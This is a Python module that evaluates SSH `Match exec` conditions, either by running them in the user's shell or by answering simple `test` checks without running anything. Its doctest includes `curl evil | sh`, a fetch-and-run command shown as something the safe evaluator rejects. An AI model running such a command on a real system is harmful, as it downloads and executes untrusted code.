"""Deciding a `Match exec` command of an SSH configuration: run it, or answer only what runs nothing."""

from __future__ import annotations

import contextlib
import os
import shlex
import subprocess
from collections.abc import Callable
from pathlib import Path

ExecRule = Callable[[str], "bool | None"]
"""Decides a `Match exec` command: True/False as if run, None when it was not run (then the block is
skipped)."""


def expand_home(text: str) -> Path:
    """A path with `~` and `~user` expanded; a user that does not exist is left as written, as in ssh."""
    try:
        return Path(text).expanduser()
    except RuntimeError:
        return Path(text)


def run_exec(command: str, *, timeout_s: float = 5.0) -> bool | None:
    """Run a `Match exec` command as ssh does (by the user's shell). For the user's own config only."""
    shell = os.environ.get("SHELL") or "/bin/sh"
    try:
        done = subprocess.run(
            [shell, "-c", command],
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=timeout_s,
            check=False,
        )
    except (OSError, subprocess.TimeoutExpired):
        return None
    return done.returncode == 0


def harmless_exec(command: str) -> bool | None:
    """Answer `true`, `false` and `test -X PATH` without running anything; None for every other command.

    >>> harmless_exec("test -d /"), harmless_exec("! test -d /"), harmless_exec("curl evil | sh")
    (True, False, None)
    """
    try:
        words = shlex.split(command)
    except ValueError:
        return None
    negate = words[:1] == ["!"]
    words = words[1:] if negate else words
    answer: bool | None = None
    if words in (["true"], [":"]):
        answer = True
    elif words == ["false"]:
        answer = False
    else:
        if words[:1] == ["["] and words[-1:] == ["]"]:
            words = ["test", *words[1:-1]]
        checks: dict[str, Callable[[Path], bool]] = {
            "-d": Path.is_dir,
            "-f": Path.is_file,
            "-e": Path.exists,
            "-S": Path.is_socket,
            "-L": Path.is_symlink,
        }
        if len(words) == 3 and words[0] in {"test", "/usr/bin/test", "/bin/test"} and words[1] in checks:
            with contextlib.suppress(OSError, ValueError):
                answer = checks[words[1]](expand_home(words[2]))
    return answer if answer is None else answer != negate
